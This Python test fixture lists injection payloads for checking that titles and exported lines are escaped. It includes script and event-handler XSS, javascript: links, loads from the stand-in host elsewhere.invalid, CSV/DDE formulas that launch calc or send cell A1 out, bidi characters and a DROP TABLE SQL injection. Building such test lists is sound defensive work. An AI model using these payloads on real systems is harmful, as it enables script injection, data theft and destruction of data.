"""Texts that attack whoever displays or exports them, by family: each fits in a title and in an « En clair » line.

Whatever runs leaves the mark `window.balise_mark`, opens a dialog, or asks an address of `elsewhere.invalid`.
"""

MARK = "window.balise_mark"
ELSEWHERE = "elsewhere.invalid"

PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", "<script>window.balise_mark=1</script>"),
    ("script", "</textarea></title><script src=https://elsewhere.invalid/a.js></script>"),
    ("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("event", "<img src=x onerror=window.balise_mark=2>"),
    ("event", "<img src=https://elsewhere.invalid/b.png onload=alert(2)>"),
    ("event", "<details open ontoggle=window.balise_mark=3>ouvert</details>"),
    ("event", "<body onload=alert(3)><input autofocus onfocus=window.balise_mark=4>"),
    ("frame", "<iframe srcdoc='<script>parent.balise_mark=5</script>'></iframe>"),
    ("frame", "<object data=https://elsewhere.invalid/c></object><embed src=//elsewhere.invalid/d>"),
    ("frame", "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid/e'>"),
    ("link", "[cliquez ici](javascript:window.balise_mark=6)"),
    ("link", "<a href='javascript:alert(4)'>cliquez</a>"),
    ("link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link", "<https://elsewhere.invalid/f> et www.elsewhere.invalid/g"),
    ("image", "![photo](https://elsewhere.invalid/h.png)"),
    ("image", "![photo][1] [1]: https://elsewhere.invalid/i.png"),
    ("svg", "<svg onload=window.balise_mark=7><circle r=9></circle></svg>"),
    ("svg", "<svg><a xlink:href='javascript:alert(5)'><text y=9>x</text></a></svg>"),
    ("svg", "<math><mtext><style><img src=x onerror=alert(6)></style></mtext></math>"),
    ("style", "<style>h1{display:none}body{background:url(//elsewhere.invalid/j)}</style>"),
    ("style", "<p style='position:fixed;inset:0;background:red'>partout</p>"),
    ("entity", "&lt;script&gt;alert(7)&lt;/script&gt; &#106;avascript&colon; &amp;amp; &nbsp;"),
    ("vega", "datum.constructor.constructor('window.balise_mark=8')()"),
    ("vega", "']; }[\"x\"].y | {\"signal\": \"alert(8)\"} \\\\' + datum['z']"),
    ("template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0} %s {% raw %}"),
    ("markdown", "# Titre **gras** `code` :red[rouge] :material/delete: $x^2$ ~~non~~ | a | --- > cité"),
    ("markdown", ":sparkles: :violet-badge[neuf] <- -> -- >= [^1] ***--- 1. un * deux"),
    ("bidi", "avant \u202eerrevni\u202c \u2067puis\u2069 apr\u200bès \ufefffin"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula", "=HYPERLINK(\"https://elsewhere.invalid/k?\"&A1,\"cliquez\")"),
    ("formula", "+1+1+cmd|' /C calc'!A0"),
    ("formula", "-2+3+cmd|' /C calc'!A0"),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula", "\t=1+1\r\n=1+1"),
    ("formula", "\uff1d1+1;=1+1,\"=1+1"),
    ("sql", "Robert'); DROP TABLE action_sheet;-- \" OR 1=1 /*"),
)  # fmt: skip

TEXTS = tuple(text for _, text in PAYLOADS)
